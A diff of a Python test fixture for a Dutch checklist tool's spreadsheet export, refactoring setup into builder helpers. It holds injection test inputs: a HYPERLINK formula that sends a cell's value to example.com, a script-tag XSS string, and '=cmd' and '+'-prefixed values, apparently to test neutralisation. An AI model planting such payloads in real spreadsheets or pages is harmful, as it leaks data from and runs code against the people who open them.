@@ -12,6 +12,7 @@ from dia_scan.checklist import exports
 from dia_scan.checklist import service as checklists
 from dia_scan.core.text import neutralise, nl_date, whole
 from dia_scan.output import spreadsheet
+from tests.builders import later_assessment_by_two, new_assessment
 
 HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"klik")'
 SCRIPT = "<script>alert('x')</script>"
@@ -21,22 +22,12 @@ SCRIPT = "<script>alert('x')</script>"
 def reports(db, catalog, organisation_id):
     """An earlier and a later assessment of one process; the later one with two assessors."""
     checklist = checklists.checklist_of(catalog)
-    process_id = checklists.register_process(
-        db,
-        catalog,
-        organisation_id=organisation_id,
-        name="Energieplan <Oost>",
-        target_groups=["huurders", "=cmd"],
+    process_id, earlier = new_assessment(
+        db, catalog, organisation_id, name="Energieplan <Oost>", target_groups=["huurders", "=cmd"]
     )
-    earlier = checklists.start_assessment(db, catalog, process_id=process_id, mode="samen")
     for _, c in checklist.criteria():
         checklists.answer(db, earlier.assessor_id, c.id, option_id="nee")
-    later = checklists.start_assessment(
-        db, catalog, process_id=process_id, mode="apart", permit=earlier.permit
-    )
-    assessment = checklists.get_assessment(db, later.assessment_id)
-    one = checklists.join_assessment(db, assessment)
-    two = checklists.join_assessment(db, assessment)
+    later, one, two = later_assessment_by_two(db, catalog, process_id, earlier.permit)
     criteria = [c for _, c in checklist.criteria()]
     checklists.answer(db, one.assessor_id, criteria[0].id, option_id="ja", toelichting=HYPERLINK)
     checklists.answer(db, two.assessor_id, criteria[0].id, option_id="nee", actiepunt="+31 bellen")
